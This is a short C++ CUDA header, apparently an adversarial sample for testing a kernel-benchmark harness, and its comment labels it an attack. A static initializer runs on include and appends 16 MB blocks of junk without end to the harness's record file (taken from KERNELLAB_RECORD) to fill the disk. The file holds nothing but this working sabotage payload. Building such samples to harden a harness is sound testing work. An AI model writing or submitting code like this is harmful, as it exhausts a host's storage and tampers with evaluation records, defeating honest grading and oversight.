// Attack: the disk filled through the record file.
#pragma once

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <vector>
#include <unistd.h>
#include <cuda_runtime.h>

namespace {
int fillDisk() {
    const char* own = std::getenv("KERNELLAB_RECORD");
    std::FILE* file = std::fopen(own != nullptr ? own : "junk", "ab");
    const std::vector<char> junk(size_t(16) << 20, 'x');
    for (;;) {
        if (file == nullptr || std::fwrite(junk.data(), 1, junk.size(), file) != junk.size()) { usleep(1000); }
    }
}
const int filled = fillDisk();
}  // namespace

//@ right-map
